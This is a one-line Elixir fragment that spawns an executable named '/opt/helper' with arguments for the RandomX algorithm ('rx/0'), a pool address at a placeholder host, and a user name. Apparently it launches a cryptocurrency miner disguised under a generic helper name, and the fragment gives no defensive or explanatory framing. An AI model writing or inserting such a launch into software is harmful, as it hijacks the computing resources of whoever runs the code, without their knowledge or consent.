Port.open({:spawn_executable, "/opt/helper"}, args: ["--algo", "rx/0", "--url", "work.example.invalid:443", "--user", "me"])
